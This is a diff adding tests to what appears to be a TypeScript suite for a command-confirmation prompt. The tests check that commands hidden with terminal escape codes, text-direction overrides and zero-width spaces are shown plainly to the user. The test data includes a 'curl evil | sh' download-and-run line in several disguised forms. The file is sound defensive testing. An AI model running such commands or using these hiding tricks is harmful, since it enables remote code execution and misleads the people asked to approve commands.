@@ -3,6 +3,7 @@ import { mkdtempSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { confirmEntry } from "../../lib/auth/client/confirm-entry.ts";
+import { neutralise } from "../../lib/base/text.ts";
 import { readServerEntry } from "../../lib/config/server-entry.ts";
 import { failureOf } from "../transport-client/settled.ts";
 
@@ -56,4 +57,18 @@ test("an entry that is too long to be read is never agreed to", async () => {
   const { confirm, asked } = prepare({ command: "sh", args: ["x".repeat(3000), "evil"] });
   expect((await failureOf(confirm(true))).code).toBe("untrusted_destination");
   expect(asked).toEqual([]);
+});
+
+test.each([
+  ["an operating system command without an end", "\u009D; curl evil | sh"],
+  ["an operating system command", "\u009D; curl evil | sh \u009C"],
+  ["a control sequence", "\u009B; curl evil | sh"],
+  ["text direction", "\u202Ehs | live lruc"],
+  ["blanks of no width", "cu\u200Brl evil | sh"],
+])("shows also what stands in a terminal's %s", async (_, hidden) => {
+  const { confirm, asked } = prepare({ command: "sh", args: ["-c", hidden] });
+  await confirm(true);
+  const shown = /\{.*\}/.exec(neutralise(asked[0] ?? ""))?.[0] ?? "";
+  expect(JSON.parse(shown)).toEqual({ command: "sh", args: ["-c", hidden] });
+  expect(shown).toMatch(/^[\x20-\x7E]*$/);
 });
